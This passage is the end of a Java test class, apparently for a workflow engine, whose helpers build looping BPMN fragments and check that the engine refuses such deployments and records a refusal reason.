    }

    private String refusals(String user) {
        return jdbc.sql(
                "select details ->> 'reason' from sixstep.security_event where kind = 'modelRefused' and actor = :user order by id desc"
                        + " limit 1")
                .param("user", user)
                .query(String.class).single();
    }

    private HttpResponse<String> deploy(String user, String body) {
        return send(as(user, DeploymentRoutes.ENGINE_REST).header("Content-Type", DeploymentRoutes.MULTIPART)
                .POST(BodyPublishers.ofString(body)));
    }

    private static Map<String, String> changed(String file, String right, String wrong) {
        Map<String, String> files = DeploymentRoutes.files();
        assertThat(files.get(file)).as("what the attack changes").contains(right);
        String text = files.get(file);
        int at = text.indexOf(right);
        files.put(file, text.substring(0, at) + wrong + text.substring(at + right.length()));
        return files;
    }

    private static String inner(String extension) {
        return "<bpmn:extensionElements>" + extension + "</bpmn:extensionElements>";
    }

    private static String flow(String from, String to) {
        return "<bpmn:sequenceFlow id=\"from_" + from + "_" + to + "\" sourceRef=\"" + from + "\" targetRef=\"" + to + "\" />";
    }

    /** A step between serviceTask_remindReviewer and itself. */
    private static String again(String step) {
        return step + flow("serviceTask_remindReviewer", "again") + flow("again", "serviceTask_remindReviewer");
    }

    private static String stage(String inside) {
        return "<bpmn:subProcess id=\"again\">" + inside + "</bpmn:subProcess>";
    }

    private static String eventStage(String begunBy, String throwing) {
        return "<bpmn:subProcess id=\"event\" triggeredByEvent=\"true\"><bpmn:startEvent"
                + " id=\"happened\">" + begunBy + "</bpmn:startEvent>"
                + flow("happened", "over") + "<bpmn:endEvent id=\"over\">"
                + throwing + "</bpmn:endEvent></bpmn:subProcess>";
    }

    private static String failure(String extension) {
        return "<bpmn:boundaryEvent id=\"failed\" attachedToRef=\"serviceTask_remindReviewer\">" + extension
                + "<bpmn:errorEventDefinition /></bpmn:boundaryEvent>";
    }

    private static Arguments circle(String name, String added) {
        return attack(name, MODEL, END, added + END, ModelRule.LOOP_ENDLESS, "");
    }

    private static Arguments fork(String name, String added) {
        return attack(name, MODEL, END, added + END, ModelRule.LOOP_FORKED, "");
    }

    private static Arguments attack(String name, String file, String right, String wrong, ModelRule rule, String named) {
        return Arguments.of(name, file, right, wrong, rule, named);
    }
}
